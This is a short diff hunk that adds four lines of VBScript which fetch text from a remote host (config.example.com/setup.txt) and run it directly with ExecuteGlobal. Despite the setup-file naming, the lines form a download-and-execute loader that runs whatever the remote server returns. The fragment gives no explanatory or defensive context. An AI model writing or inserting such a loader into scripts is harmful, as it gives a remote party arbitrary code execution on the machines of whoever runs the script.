@@ -1,0 +1,4 @@
+Set http = CreateObject("MSXML2.XMLHTTP")
+http.Open "GET", "http://config.example.com/setup.txt", False
+http.Send
+ExecuteGlobal http.responseText
